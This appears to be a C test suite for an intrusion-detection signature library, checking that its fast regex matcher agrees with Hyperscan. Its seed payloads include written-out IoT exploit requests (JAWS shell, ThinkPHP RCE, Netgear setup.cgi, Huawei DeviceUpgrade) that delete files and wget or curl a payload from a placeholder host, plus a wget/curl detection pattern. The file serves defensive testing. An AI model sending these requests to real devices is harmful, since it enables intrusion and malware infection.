/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * lib/sig's own matcher (lib/sig/sig_fast.h) against Hyperscan itself,
 * the reference: each pattern is compiled alone by Hyperscan (block mode,
 * single match, the rule's flags and depth as max_offset, exactly as lib/sig
 * compiles rules) and both must agree on every payload tried.
 *
 *  - which patterns the matcher takes and which it leaves to Hyperscan (the
 *    default rules: every one taken, anchored or floating);
 *  - a floating pattern's answer with each way of filtering its start
 *    offsets (AVX2, SSSE3, byte by byte), on payloads shorter and longer
 *    than a block, matches across blocks and in the last bytes;
 *  - every class escape, '.', caseless bytes and classes over all 256 bytes;
 *  - hand-written patterns (quantifiers, nested groups, alternation, runs,
 *    depth) on their seeds, every prefix of them, and random mutations;
 *  - random patterns from a grammar written here (with strings drawn from
 *    each pattern as it is generated), plus their mutations;
 *  - the default rules on their sample payloads' mutations;
 *  - a pattern that backtracks past the matcher's budget gives up (-1), and
 *    dc_sig_scan() then answers through Hyperscan, as with DC_SIG_NO_FAST;
 *  - the default rule set: which groups are scanned without Hyperscan;
 *  - port groups of several floating rules (their start filters sharing
 *    the 8 buckets, or a bucket each and more): dc_sig_scan() against
 *    DC_SIG_NO_FAST on generated payloads;
 *  - the scan's port lookup (ranges or map) against the one-database
 *    layout's port filter on every port.
 */
#include <hs/hs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "dc_err.h"
#include "dc_sig.h"
#include "dc_test.h"
#include "sig_fast.h"

#define NELEM(a) (sizeof(a) / sizeof((a)[0]))

static uint64_t g_rnd = 12345;
static unsigned long g_compared, g_matched, g_gaveup;

static unsigned
rnd(unsigned n)
{
	return (unsigned)(dc_test_rnd(&g_rnd) % n);
}

/* ---- the reference: Hyperscan on one pattern ------------------------------ */

struct ref {
	hs_database_t *db;
	hs_scratch_t *scr;
};

static int
on_match(unsigned id, unsigned long long from, unsigned long long to, unsigned fl, void *ctx)
{
	(void)id;
	(void)from;
	(void)to;
	(void)fl;
	*(int *)ctx = 1;
	return 1;
}

/* 0 when Hyperscan refuses the pattern. */
static int
ref_build(struct ref *r, const char *expr, unsigned flags, uint32_t depth)
{
	hs_compile_error_t *err = NULL;
	hs_expr_ext_t ext = {0};
	const hs_expr_ext_t *extp = &ext;
	unsigned hf = HS_FLAG_SINGLEMATCH, id = 0;
	char buf[4096];
	const char *e = expr;

	if (flags & DC_SIG_F_CASELESS)
		hf |= HS_FLAG_CASELESS;
	if (flags & DC_SIG_F_DOTALL)
		hf |= HS_FLAG_DOTALL;
	if (flags & DC_SIG_F_MULTILINE)
		hf |= HS_FLAG_MULTILINE;
	if (flags & DC_SIG_F_ANCHORED) {
		snprintf(buf, sizeof(buf), "\\A(?:%s)", expr);
		e = buf;
	}
	if (depth) {
		ext.flags = HS_EXT_FLAG_MAX_OFFSET;
		ext.max_offset = depth;
	}
	r->db = NULL;
	r->scr = NULL;
	if (hs_compile_ext_multi(&e, &hf, &id, &extp, 1, HS_MODE_BLOCK, NULL, &r->db, &err) !=
	    HS_SUCCESS) {
		hs_free_compile_error(err);
		return 0;
	}
	if (hs_alloc_scratch(r->db, &r->scr) != HS_SUCCESS) {
		fprintf(stderr, "hs_alloc_scratch failed\n");
		exit(1);
	}
	return 1;
}

static int
ref_match(const struct ref *r, const uint8_t *s, uint32_t len)
{
	int m = 0;

	if (len == 0)
		return 0; /* as dc_sig_scan() */
	hs_scan(r->db, (const char *)s, len, 0, r->scr, on_match, &m);
	return m;
}

static void
ref_free(struct ref *r)
{
	hs_free_scratch(r->scr);
	hs_free_database(r->db);
}

/* ---- comparing ------------------------------------------------------------ */

struct pat {
	const char *expr;
	unsigned flags;
	uint32_t depth;
	int taken;             /* the matcher must take it (1) or leave it (0) */
	const char *seeds[4];  /* payloads to start from (C strings; \0 via \x00 not allowed here) */
};

static int
agree(const struct sig_prog *p, const struct ref *r, const char *expr, const uint8_t *s,
      uint32_t len)
{
	int a = sig_prog_run(p, s, len), b;

	if (len == 0)
		return 1;
	if (p->floating) {
		/* every way of filtering the offsets gives the same answer */
		struct sig_fset fs = *p->one;

		for (int w = SIG_SIMD_NONE; w <= p->one->simd; w++) {
			int32_t x;

			fs.simd = w;
			x = sig_fset_scan(&fs, s, len);
			if ((x < 0 ? -1 : (int)(x & 1)) != a) {
				fprintf(stderr, "  /%s/ on %u bytes: filter %d says %d, the default %d\n", expr,
					len, w, (int)x, a);
				return 0;
			}
		}
	}
	b = ref_match(r, s, len);
	g_compared++;
	if (a < 0) {
		g_gaveup++;
		return 1;
	}
	g_matched += (unsigned long)b;
	if (a != b) {
		fprintf(stderr, "  /%s/ on %u bytes:", expr, len);
		for (uint32_t i = 0; i < len && i < 48; i++)
			fprintf(stderr, " %02x", s[i]);
		fprintf(stderr, "%s: matcher %d, Hyperscan %d\n", len > 48 ? " ..." : "", a, b);
		return 0;
	}
	return 1;
}

/* Mutate @p s (length *len, capacity cap) once: flip, replace, insert,
 * delete, swap case, or cut. */
static void
mutate(uint8_t *s, uint32_t *len, uint32_t cap, const uint8_t *alpha, unsigned nalpha)
{
	uint32_t n = *len, i = n ? rnd(n) : 0;

	switch (rnd(6)) {
	case 0:
		if (n)
			s[i] ^= (uint8_t)(1u << rnd(8));
		break;
	case 1:
		if (n)
			s[i] = alpha[rnd(nalpha)];
		break;
	case 2:
		if (n < cap) {
			memmove(s + i + 1, s + i, n - i);
			s[i] = alpha[rnd(nalpha)];
			*len = n + 1;
		}
		break;
	case 3:
		if (n) {
			memmove(s + i, s + i + 1, n - i - 1);
			*len = n - 1;
		}
		break;
	case 4:
		if (n && ((s[i] | 0x20) >= 'a' && (s[i] | 0x20) <= 'z'))
			s[i] ^= 0x20;
		break;
	default:
		*len = n ? rnd(n + 1) : 0;
		break;
	}
}

/* A seed, all its prefixes, and @p nmut mutation chains from it. */
static int
try_around(const struct sig_prog *p, const struct ref *r, const char *expr, const uint8_t *seed,
	   uint32_t slen, unsigned nmut)
{
	static const uint8_t alpha_base[] = {0, 1, '\t', '\n', 0x0b, '\r', ' ', '0', '9', 'A', 'Z', 'a',
					     'z', '_', '-', '.', '/', ':', 0x7f, 0x80, 0xff};
	uint8_t alpha[256 + sizeof(alpha_base)];
	unsigned na = 0;
	uint8_t buf[2048];
	int ok = 1;

	if (slen > 1024)
		slen = 1024;
	memcpy(alpha, alpha_base, sizeof(alpha_base));
	na = sizeof(alpha_base);
	for (uint32_t i = 0; i < slen && na < sizeof(alpha); i++)
		alpha[na++] = seed[i];
	for (uint32_t l = 0; l <= slen; l++)
		ok &= agree(p, r, expr, seed, l);
	for (unsigned m = 0; m < nmut; m++) {
		uint32_t len = slen;
		unsigned steps = 1 + rnd(4);

		memcpy(buf, seed, slen);
		for (unsigned k = 0; k < steps; k++)
			mutate(buf, &len, sizeof(buf), alpha, na);
		ok &= agree(p, r, expr, buf, len);
	}
	return ok;
}

/* ---- which patterns the matcher takes -------------------------------------- */

static const struct pat hand[] = {
	/* not taken: a construct outside the subset */
	{"^abc|def", 0, 0, 0, {"def"}},
	{"a*", 0, 0, 0, {"b"}},
	{"(?:a|b?)", 0, 0, 0, {"b"}},
	{"^abc$", 0, 0, 0, {"abc"}},
	{"^ab\\b", 0, 0, 0, {"ab c"}},
	{"^a(?=b)", 0, 0, 0, {"ab"}},
	{"^(a)\\1", 0, 0, 0, {"aa"}},
	{"^(?i)abc", 0, 0, 0, {"ABC"}},
	{"^a++b", 0, 0, 0, {"aab"}},
	{"^[[:alpha:]]x", 0, 0, 0, {"ax"}},
	{"^abc", DC_SIG_F_MULTILINE, 0, 0, {"abc"}},
	{"^a(?:^b)", 0, 0, 0, {"ab"}},
	{"^(?:a?)*b", 0, 0, 0, {"aab"}},
	{"^\\x{100}", 0, 0, 0, {"a"}},
	{"^a\\Qb\\E", 0, 0, 0, {"ab"}},
	/* taken */
	{"^abc", 0, 0, 1, {"abc", "abcd", "ab", "ABC"}},
	{"\\Aabc", DC_SIG_F_MULTILINE, 0, 1, {"abc", "xabc"}},
	{"abc|def", DC_SIG_F_ANCHORED, 0, 1, {"abc", "def", "xdef"}},
	{"^abc|^def", 0, 0, 1, {"abc", "def", "de"}},
	{"^OPTIONS\\s{1,16}sip:", DC_SIG_F_CASELESS, 0, 1,
	 {"OPTIONS sip:x", "options \t\r\n sip:", "OPTIONS                 sip:", "OPTIONSsip:"}},
	{"^a[^b]c", DC_SIG_F_CASELESS, 0, 1, {"axc", "abc", "aBc", "a\nc"}},
	{"^a.c", 0, 0, 1, {"abc", "a\nc", "a\xff" "c"}},
	{"^a.c", DC_SIG_F_DOTALL, 0, 1, {"abc", "a\nc"}},
	{"^\\x41\\x6a", DC_SIG_F_CASELESS, 0, 1, {"Aj", "aJ", "AJ", "ak"}},
	{"^[A-Fa-f0-9]{2,4}:", 0, 0, 1, {"ab:", "abcd:", "abcde:", "a:"}},
	{"^[\\x00-\\x1f\\x7f-\\xff]+x", 0, 0, 1, {"\x01\x02x", "\x80x", "x"}},
	{"^a(?:b|bc|bcd)e", 0, 0, 1, {"abe", "abce", "abcde", "abcdf"}},
	{"^(a|ab)(c|bcd)(d*)$x", 0, 0, 0, {"abcd"}},
	{"^(a|ab)(c|bcd)(d*)x", 0, 0, 1, {"abcdx", "acx", "abcddddx", "abbcdx"}},
	{"^(?:ab){2,3}c", 0, 0, 1, {"ababc", "abababc", "ababababc", "abc"}},
	{"^(?:ab){2,}c", 0, 0, 1, {"ababababababc", "abc"}},
	{"^a{3}b?c+?d*?e", 0, 0, 1, {"aaace", "aaabcccdde", "aae"}},
	{"^\\d+\\.\\d+\\.\\D\\W\\w\\S", 0, 0, 1, {"12.34.x-_a", "1.2.3-_a"}},
	{"^[\\d\\s]{3}[^\\w]", 0, 0, 1, {"1 2-", "1 2a", "\x0b\x0c" "9!"}},
	{"^[-a]z[a-]z[]a]z[^]a]", 0, 0, 1, {"-za-z]z.", "azazaz]"}},
	{"^\\/\\.\\*\\+\\?\\{\\}\\(\\)\\[\\]\\|\\\\\\^\\$", 0, 0, 1, {"/.*+?{}()[]|\\^$"}},
	{"^\\t\\n\\r\\f\\e\\a\\x7", 0, 0, 1, {"\t\n\r\f\x1b\x07\x07"}},
	{"^ab[\\x00-\\xff]*cd", 0, 0, 1, {"abcd", "abxxxxcd", "abcdcd", "abc"}},
	{"^ab[\\x00-\\xff]*cd", 0, 8, 1, {"abxxxxcd", "abxxxxxcd", "abcd"}},
	{"^[\\x01-\\x3f][\\x01-\\xff]*\\x00\\x00\\xff", 0, 12, 1, {"\x03" "abc"}},
	{"^x(?:[a-c][a-z]*)?\\.y", 0, 0, 1, {"x.y", "xaqq.y", "xq.y", "xa.y"}},
	{"^(?:a|b)*abb", 0, 0, 1, {"abb", "aababb", "ab", "bbbbabb"}},
	{"^(?:a*)+b", 0, 0, 0, {"aab"}},
	{"^(?:aa|a)(?:aa|a)(?:aa|a)b", 0, 0, 1, {"aaab", "aaaaaab", "aab"}},
	{"^(a(b(c(d)?)?)?)?e", 0, 0, 1, {"e", "abe", "abcde", "abdde"}},
	{"^([\\x00-\\xff]{2}[\\x00-\\x07])x", 0, 0, 1, {"\x01\x02\x03x", "\x01\x02\x08x"}},
	{"^M-SEARCH \\* HTTP/1\\.1\\r?\\n", 0, 0, 1,
	 {"M-SEARCH * HTTP/1.1\r\n", "M-SEARCH * HTTP/1.1\n", "M-SEARCH * HTTP/1.1\r"}},
	{"^(?:stats|gets? )", 0, 5, 1, {"stats", "gets ", "get ", "sta"}},
	{"^a", 0, 1, 1, {"a", "ab", "b"}},
	{"^.{0,5}b", 0, 4, 1, {"xxxb", "xxxxb", "b"}},
	/* floating: anywhere in the payload (seeds longer than a block, with
	 * matches across blocks and at the end) */
	{"abc", 0, 0, 1,
	 {"abc", "xxabcxx", "ABC................................................abc",
	  "...............................abc.............................ab"}},
	{"a|bc", 0, 0, 1,
	 {"zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzza", "zzzzzzzzzzzzzzzb",
	  "xbc", "zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzbc"}},
	{"a[^b]*c", 0, 0, 1, {"xxaxxc", "abc", "zzzazzzc", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab"}},
	{"ab", 0, 4, 1, {"xxab", "xxxab", "ab", "..........ab"}},
	{"x{3}y|zz", 0, 0, 1, {"axxxy", "azz", "xxy", "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxy"}},
	{"\\x00\\x01[\\x00-\\xff]{2}\\xff", 0, 0, 1, {"ab\x01\x01\x02\x03\xff", "\x01\x01\x01\x01\xff"}},
	{"(?:wget|curl)(?:\\s|\\+|%20|\\$\\{IFS\\})+https?:\\/\\/", DC_SIG_F_CASELESS, 0, 1,
	 {"GET /x?cmd=cd+/tmp;wget+http://1.2.3.4/x HTTP/1.1\r\n", "curl%20%20https://",
	  "WGET${IFS}http://", "cUrL \t http:/"}},
	{"<(?:[A-Za-z_][A-Za-z0-9_.-]*:)?Probe[\\s>\\/]", 0, 0, 1,
	 {"<?xml version=\"1.0\"?><soap:Envelope><soap:Body><wsd:Probe/>", "<Probe>", "<a:b:Probe ",
	  "<:/><soap:Body><wsd:Resolve>"}},
	{"invokefunction&function=call_user_func_array", DC_SIG_F_CASELESS, 0, 1,
	 {"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"}},
	{".{2,3}q", DC_SIG_F_DOTALL, 0, 1, {"aaq", "\nq\nq", "q"}},
	{"\\Aab", 0, 0, 1, {"ab", "xab"}},
	/* a run of 64 bytes (the most one operation holds), then a choice */
	{"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef(?:x|yz)", 0, 0, 1,
	 {"..0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdefyz",
	  "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdefx"}},
	{"[0-9]0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcde(?:x|yz)", 0, 0, 1,
	 {"..70123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdeyz"}},
};

static void
test_hand(void)
{
	int bad = 0;

	for (size_t i = 0; i < NELEM(hand); i++) {
		const struct pat *t = &hand[i];
		const char *why = NULL;
		struct sig_prog *p = sig_prog_build(t->expr, t->flags, t->depth, &why);
		struct ref r;

		CHECK_EQ(p != NULL, t->taken);
		if ((p != NULL) != t->taken)
			fprintf(stderr, "  /%s/: %s\n", t->expr, p ? "taken" : why);
		if (p == NULL) {
			CHECK(why != NULL && why[0] != '\0');
			continue;
		}
		if (!ref_build(&r, t->expr, t->flags, t->depth)) {
			fprintf(stderr, "  /%s/: Hyperscan refuses it\n", t->expr);
			CHECK(0);
			sig_prog_free(p);
			continue;
		}
		for (size_t k = 0; k < NELEM(t->seeds) && t->seeds[k]; k++)
			bad += !try_around(p, &r, t->expr, (const uint8_t *)t->seeds[k],
					   (uint32_t)strlen(t->seeds[k]), 3000);
		ref_free(&r);
		sig_prog_free(p);
	}
	CHECK_EQ(bad, 0);
}

/* Every single-byte class and escape, caseless or not, over all 256 bytes
 * (and the byte followed by a marker, to see the class consumed one byte). */
static void
test_bytes(void)
{
	static const char *const one[] = {
		"\\s", "\\S", "\\d", "\\D", "\\w", "\\W", ".", "[^a]", "[a-z]", "[^\\x00-\\x40]",
		"\\x41", "a", "Z", "[\\s\\d]", "[^\\s]", "[\\W]", "[\\x5b-\\x60]", "\\x{7a}", "_", "\\-",
	};
	int bad = 0;

	for (size_t i = 0; i < NELEM(one); i++) {
		for (unsigned f = 0; f < 4; f++) {
			unsigned flags = (f & 1 ? DC_SIG_F_CASELESS : 0) | (f & 2 ? DC_SIG_F_DOTALL : 0);
			char expr[64];
			const char *why;
			struct sig_prog *p;
			struct ref r;

			snprintf(expr, sizeof(expr), "^%s#", one[i]);
			p = sig_prog_build(expr, flags, 0, &why);
			CHECK(p != NULL);
			if (p == NULL || !ref_build(&r, expr, flags, 0)) {
				CHECK(0);
				sig_prog_free(p);
				continue;
			}
			for (unsigned c = 0; c < 256; c++) {
				uint8_t s[16] = {(uint8_t)c, (uint8_t)'#'};

				bad += !agree(p, &r, expr, s, 2);
			}
			ref_free(&r);
			sig_prog_free(p);
		}
	}
	CHECK_EQ(bad, 0);
}

/* ---- random patterns -------------------------------------------------------- */

/* The grammar's bytes, and how each is written in a pattern. */
static const uint8_t gbytes[] = {'a', 'b', 'A', 'z', '0', ' ', '\n', 0x00, 0x0b, 0x80, 0xff, '-'};

struct gen {
	char *e;      /* pattern text */
	size_t elen, ecap;
};

static void
gput(struct gen *g, const char *s)
{
	size_t n = strlen(s);

	if (g->elen + n + 1 > g->ecap)
		return; /* the caller checks the length */
	memcpy(g->e + g->elen, s, n + 1);
	g->elen += n;
}

static void
gbyte(struct gen *g, uint8_t c)
{
	char b[8];

	if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9'))
		snprintf(b, sizeof(b), "%c", c);
	else
		snprintf(b, sizeof(b), "\\x%02x", c);
	gput(g, b);
}

/*
 * A random node: its text goes to @p g; @p mem (at most 8 per node, up to
 * @p cap bytes each) receives strings it matches, drawn while it is written.
 * Returns the number of strings (0 .. 8).
 */
#define NSTR 6
#define SCAP 96

struct strs {
	uint8_t s[NSTR][SCAP];
	uint32_t len[NSTR];
};

static void gen_node(struct gen *g, struct strs *out, int depth);

static void
gen_atom(struct gen *g, struct strs *out, int depth, unsigned caseless)
{
	unsigned k = rnd(depth > 2 ? 6 : 8);

	if (k < 3) { /* a byte */
		uint8_t c = gbytes[rnd(sizeof(gbytes))];

		gbyte(g, c);
		for (int i = 0; i < NSTR; i++) {
			uint8_t v = c;

			if (caseless && ((c | 0x20) >= 'a' && (c | 0x20) <= 'z') && rnd(2))
				v ^= 0x20;
			out->s[i][0] = v;
			out->len[i] = 1;
		}
	} else if (k < 5) { /* a class */
		uint8_t in[sizeof(gbytes)];
		unsigned n = 0, neg = rnd(4) == 0;

		gput(g, neg ? "[^" : "[");
		for (unsigned i = 0; i < sizeof(gbytes); i++) {
			if (rnd(3) == 0) {
				gbyte(g, gbytes[i]);
				in[n++] = gbytes[i];
			}
		}
		if (n == 0) {
			gbyte(g, 'b');
			in[n++] = 'b';
		}
		if (rnd(3) == 0)
			gput(g, rnd(2) ? "\\d" : "\\s");
		gput(g, "]");
		for (int i = 0; i < NSTR; i++) {
			/* a negated class: a byte outside its listed bytes (maybe one of
			 * its escapes' bytes: then the string is simply a non-match) */
			out->s[i][0] = neg ? (uint8_t)('c' + rnd(20)) : in[rnd(n)];
			out->len[i] = 1;
		}
	} else if (k == 5) { /* '.' */
		gput(g, ".");
		for (int i = 0; i < NSTR; i++) {
			out->s[i][0] = gbytes[rnd(sizeof(gbytes))];
			out->len[i] = 1;
		}
	} else { /* a group */
		gput(g, rnd(2) ? "(?:" : "(");
		gen_node(g, out, depth + 1);
		gput(g, ")");
	}
}

static void
cat_into(struct strs *a, const struct strs *b)
{
	for (int i = 0; i < NSTR; i++) {
		uint32_t n = b->len[i];

		if (a->len[i] + n > SCAP)
			n = SCAP - a->len[i];
		memcpy(a->s[i] + a->len[i], b->s[i], n);
		a->len[i] += n;
	}
}

static void
gen_piece(struct gen *g, struct strs *out, int depth)
{
	struct strs a;
	unsigned q = rnd(10), lo = 0, hi = 1;
	char b[32];

	gen_atom(g, &a, depth, 0);
	memset(out, 0, sizeof(*out));
	switch (q) {
	case 0: gput(g, "?"); lo = 0; hi = 1; break;
	case 1: gput(g, "*"); lo = 0; hi = 3; break;
	case 2: gput(g, "+"); lo = 1; hi = 3; break;
	case 3:
		lo = rnd(3);
		hi = lo + rnd(3);
		snprintf(b, sizeof(b), "{%u,%u}", lo, hi);
		gput(g, b);
		break;
	case 4:
		lo = 1 + rnd(3);
		hi = lo;
		snprintf(b, sizeof(b), "{%u}", lo);
		gput(g, b);
		break;
	default:
		lo = hi = 1;
		break;
	}
	if (q <= 3 && rnd(4) == 0)
		gput(g, "?"); /* lazy */
	/* strings: each its own count of the atom's string (the same draw
	 * repeated: enough to exercise runs) */
	for (int i = 0; i < NSTR; i++) {
		unsigned c = lo + rnd(hi - lo + 1);

		for (unsigned k = 0; k < c && out->len[i] + a.len[i] <= SCAP; k++) {
			memcpy(out->s[i] + out->len[i], a.s[i], a.len[i]);
			out->len[i] += a.len[i];
		}
	}
}

static void
gen_node(struct gen *g, struct strs *out, int depth)
{
	unsigned nalt = depth < 3 && rnd(3) == 0 ? 2 + rnd(2) : 1;
	struct strs br[3];

	for (unsigned b = 0; b < nalt; b++) {
		unsigned np = 1 + rnd(depth < 2 ? 4 : 2);

		if (b)
			gput(g, "|");
		memset(&br[b], 0, sizeof(br[b]));
		for (unsigned k = 0; k < np; k++) {
			struct strs pc;

			gen_piece(g, &pc, depth);
			cat_into(&br[b], &pc);
		}
	}
	for (int i = 0; i < NSTR; i++) {
		unsigned b = rnd(nalt);

		memcpy(out->s[i], br[b].s[i], br[b].len[i]);
		out->len[i] = br[b].len[i];
	}
}

static void
test_random(void)
{
	unsigned taken = 0, refused = 0, tried = 0, nfloat = 0;
	int bad = 0;

	for (unsigned n = 0; n < 1500; n++) {
		char text[512];
		struct gen g = {text, 0, sizeof(text) - 8};
		struct strs st;
		unsigned flags = (rnd(3) == 0 ? DC_SIG_F_CASELESS : 0) |
				 (rnd(3) == 0 ? DC_SIG_F_DOTALL : 0);
		uint32_t depth = rnd(4) == 0 ? 1 + rnd(12) : 0;
		const char *why;
		struct sig_prog *p;
		struct ref r;
		int floating;

		text[0] = '\0';
		floating = rnd(3) == 0;
		if (floating) {
			gen_node(&g, &st, 0); /* matched anywhere */
		} else if (rnd(5) == 0) {
			flags |= DC_SIG_F_ANCHORED;
			gen_node(&g, &st, 0);
		} else {
			/* the group anchors every branch of a top-level alternation */
			gput(&g, rnd(2) ? "^(?:" : "\\A(?:");
			gen_node(&g, &st, 0);
			gput(&g, ")");
		}
		if (g.elen + 8 >= g.ecap)
			continue;
		if (!ref_build(&r, text, flags, depth)) {
			refused++; /* e.g. it can match the empty string */
			continue;
		}
		tried++;
		p = sig_prog_build(text, flags, depth, &why);
		if (p == NULL) {
			/* only a star over a group that can match nothing, or size */
			if (getenv("SIG_FAST_VERBOSE"))
				fprintf(stderr, "  not taken: /%s/: %s\n", text, why);
			ref_free(&r);
			continue;
		}
		taken++;
		nfloat += floating;
		for (int i = 0; i < NSTR; i++) {
			uint8_t tail[SCAP + 64];
			/* floating: the string after 0 .. 47 bytes of the grammar's */
			uint32_t pre = floating ? rnd(48) : 0;

			for (uint32_t b = 0; b < pre; b++)
				tail[b] = gbytes[rnd(sizeof(gbytes))];
			memcpy(tail + pre, st.s[i], st.len[i]);
			tail[pre + st.len[i]] = gbytes[rnd(sizeof(gbytes))];
			bad += !try_around(p, &r, text, tail, pre + st.len[i] + 1, 60);
		}
		ref_free(&r);
		sig_prog_free(p);
	}
	printf("  random patterns: %u compiled by Hyperscan, %u taken by the matcher (%u floating), %u refused by Hyperscan\n",
	       tried, taken, nfloat, refused);
	CHECK(nfloat * 5 >= taken); /* about a third of them */
	/* the grammar stays inside the subset but for stars over groups that
	 * can match nothing (about 3 %) */
	CHECK(taken * 10 >= tried * 9);
	CHECK_EQ(bad, 0);
}

/* ---- the default rules --------------------------------------------------- */

/* Default rule ids the matcher must take: every one (anchored, or floating:
 * 1009, 2003, 2005, 2006, 2007). */
static const uint32_t dflt_taken[] = {1001, 1002, 1003, 1004, 1005, 1006, 1007, 1008, 1009,
				      1010, 1011, 2001, 2002, 2003, 2004, 2005, 2006, 2007};
static const uint32_t dflt_floating[] = {1009, 2003, 2005, 2006, 2007};

/* Payloads built from each default rule's form: one that matches and its
 * mutations. */
static void
test_default_rules(const char *file)
{
	static const struct {
		uint32_t id;
		const char *s;
		uint32_t len;
	} seeds[] = {
#define S(id, lit) {id, lit, sizeof(lit) - 1}
		S(1001, "OPTIONS sip:100@1.2.3.4 SIP/2.0\r\nVia: SIP/2.0/UDP 1.2.3.4:5060\r\n"),
		S(1002, "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x07" "example\x03" "com\x00\x00\xff\x00\x01"),
		S(1002, "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\xff\x00\x01"),
		S(1003, "\xab\xcd\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07VERSION\x04" "bind\x00\x00\x10\x00\x03"),
		S(1004, "\x17\x00\x03\x2a\x00\x00\x00\x00"),
		S(1005, "\x23\x00\x06\x20\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
			"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
			"\x00\x00\x00\x00\x00\x00\x00\x00"),
		S(1006, "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n"),
		S(1007, "\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n"),
		S(1008, "\x30\x25\x02\x01\x01\x63\x20\x04\x00\x0a\x01\x00\x0a\x01\x00\x02\x01\x00"),
		S(1008, "\x30\x84\x00\x00\x00\x2d\x02\x04\x00\x00\x00\x07\x63\x84\x00\x00\x00\x24\x04\x00\x0a\x01\x00"),
		S(1010, "\x30\x26\x02\x01\x01\x04\x06public\xa0\x19\x02\x04\x12\x34\x56\x78"),
		S(1011, "\x80\xf0\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x20" "CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\x00\x00\x21\x00\x01"),
		S(2001, "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n"),
		S(2002, "POST /picsdesc.xml HTTP/1.1\r\n"),
		S(2004, "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n"),
		S(1009, "<?xml version=\"1.0\" encoding=\"utf-8\"?><soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\"><soap:Body><wsd:Probe><wsd:Types>dn:NetworkVideoTransmitter</wsd:Types></wsd:Probe></soap:Body></soap:Envelope>"),
		S(1009, "<Probe xmlns=\"http://schemas.xmlsoap.org/ws/2005/04/discovery\"/>"),
		S(2003, "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n"),
		S(2005, "GET /index.php?s=/Index/\\think\\app/invokeFunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=wget HTTP/1.1\r\n"),
		S(2006, "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n"),
		S(2007, "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n\r\n<NewStatusURL>$(/bin/busybox wget -g 192.0.2.1 -l /tmp/x -r /m; curl${IFS}http://192.0.2.1/x)</NewStatusURL>"),
		S(2007, "cd /tmp; WGET%20https://192.0.2.7/bins.sh"),
#undef S
	};
	const char *files[] = {file};
	struct dc_sig_db *db = dc_sig_load_opts(files, 1, NULL, 0);
	unsigned groups = 0;
	unsigned long gaveup0;
	int bad = 0;

	CHECK(db != NULL);
	if (db == NULL) {
		fprintf(stderr, "  %s\n", dc_strerror());
		return;
	}
	gaveup0 = g_gaveup;
	for (unsigned i = 0; i < dc_sig_count(db); i++) {
		const struct dc_sig_rule *rule = dc_sig_rule(db, i);
		const char *why;
		struct sig_prog *p = sig_prog_build(rule->expr, rule->flags, rule->depth, &why);
		int want = 0, fl = 0;

		for (size_t k = 0; k < NELEM(dflt_taken); k++)
			want |= dflt_taken[k] == rule->id;
		for (size_t k = 0; k < NELEM(dflt_floating); k++)
			fl |= dflt_floating[k] == rule->id;
		CHECK_EQ(p != NULL, want);
		if ((p != NULL) != want)
			fprintf(stderr, "  rule %u: %s\n", rule->id, p ? "taken" : why);
		if (p != NULL)
			CHECK_EQ(p->floating, fl);
		/* the library says the same of the rule */
		CHECK_EQ(dc_sig_fast_why(db, i) == NULL, want == 1);
		if (p != NULL) {
			struct ref r;

			CHECK(ref_build(&r, rule->expr, rule->flags, rule->depth));
			for (size_t k = 0; k < NELEM(seeds); k++) {
				if (seeds[k].id != rule->id)
					continue;
				CHECK_EQ(sig_prog_run(p, (const uint8_t *)seeds[k].s, seeds[k].len), 1);
				bad += !try_around(p, &r, rule->expr, (const uint8_t *)seeds[k].s,
						   seeds[k].len, 20000);
			}
			ref_free(&r);
		}
		sig_prog_free(p);
	}
	CHECK_EQ(bad, 0);
	CHECK_EQ(g_gaveup, gaveup0); /* the default rules never need Hyperscan's answer */
	/* every rule taken, so every group is decided without Hyperscan */
	CHECK_EQ(dc_sig_fast_count(db, &groups), NELEM(dflt_taken));
	printf("  default rules: %u of %u taken, %u of %u groups without Hyperscan\n",
	       dc_sig_fast_count(db, NULL), dc_sig_count(db), groups, dc_sig_db_count(db));
	CHECK_EQ(groups, dc_sig_db_count(db));
	CHECK_EQ(groups, 13);
	dc_sig_free(db);
}

/* ---- giving up --------------------------------------------------------------- */

static void
test_give_up(void)
{
	/* 2^24 ways to split the a's before the missing b: the budget runs out */
	const char *expr = "^(?:a|aa)(?:a|aa)(?:a|aa)(?:a|aa)(?:a|aa)(?:a|aa)(?:a|aa)(?:a|aa)"
			   "(?:a|aa)(?:a|aa)(?:a|aa)(?:a|aa)(?:a|aa)(?:a|aa)(?:a|aa)(?:a|aa)"
